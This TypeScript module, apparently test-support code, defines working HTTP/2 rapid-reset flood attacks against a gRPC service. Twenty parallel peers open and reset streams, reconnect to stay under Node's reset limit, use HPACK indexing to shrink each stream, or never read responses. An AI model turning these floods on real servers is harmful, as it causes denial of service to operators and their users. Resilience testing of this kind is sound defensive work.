import { frame, grpcBody } from "../support/frames";
import { message } from "../support/raw";
import { type Attack, listRoles, streams } from "./attack";
import { RawPeer, flags, grpcHeaders, headerBlock, types } from "./raw-peer";

/** Hundreds of streams after which a peer opens a new connection. Node ends a connection at a burst of 1000 resets. */
const allowed = 9;

interface Options {
  readonly reads?: boolean;
  /** Hundreds of calls of a connection. */
  readonly hundreds?: number;
}

/** Makes calls over twenty connections, a hundred at once, as fast as the server takes them. */
function callsOfTwenty(
  bytesOf: (stream: number) => Buffer[],
  { reads = true, hundreds = Infinity }: Options = {},
): Attack {
  const one = async (address: string, deadline: number) => {
    while (Date.now() < deadline) {
      const peer = await RawPeer.open(address);
      if (!reads) peer.stopReading();
      for (let hundred = 0; hundred < hundreds && !peer.ended && Date.now() < deadline; hundred += 1)
        await peer.send(Buffer.concat(streams(100).flatMap((stream) => bytesOf(stream + 200 * hundred))));
      peer.destroy();
    }
  };
  return async (address, deadline) => {
    await Promise.all(Array.from({ length: 20 }, () => one(address, deadline)));
  };
}

const headers = (path: string) => headerBlock(grpcHeaders(path));
const known = headers(listRoles);
/** Has the server keep the headers in HPACK's table, from where a byte names each of them in later blocks. */
const indexing = headerBlock(grpcHeaders(listRoles), { indexed: true });
const indexed = Buffer.from(Object.keys(grpcHeaders(listRoles)).map((_, index) => 0x80 + 62 + index));
const unknown = headers("/orgroles.v1.RoleService/Nothing");
const body = grpcBody(message([1, "alpha"]));

const open = (stream: number, block: Buffer) => frame(types.headers, flags.endHeaders, stream, block);
const end = (stream: number) => frame(types.data, flags.endStream, stream, body);
const reset = (stream: number) => frame(types.reset, 0, stream, Buffer.from([0, 0, 0, 8]));

const openAndReset = (stream: number) => [open(stream, known), reset(stream)];
const completeAndReset = (stream: number) => [open(stream, known), end(stream), reset(stream)];
const indexedAndReset = (stream: number) => [open(stream, stream === 1 ? indexing : indexed), reset(stream)];
const unknownMethod = (stream: number) => [frame(types.headers, flags.endHeaders + flags.endStream, stream, unknown)];

/** Calls that come as fast as twenty connections bring them. */
export const attacksByCalls: Readonly<Record<string, Attack>> = {
  "streams that twenty peers reset at once": callsOfTwenty(openAndReset),
  "streams that twenty peers reset at once, over ever new connections": callsOfTwenty(openAndReset, {
    hundreds: allowed,
  }),
  "complete calls that twenty peers reset at once, over ever new connections": callsOfTwenty(completeAndReset, {
    hundreds: allowed,
  }),
  "streams of few bytes that twenty peers reset at once, over ever new connections": callsOfTwenty(indexedAndReset, {
    hundreds: allowed,
  }),
  "unknown methods of twenty peers that never read": callsOfTwenty(unknownMethod, { reads: false }),
};
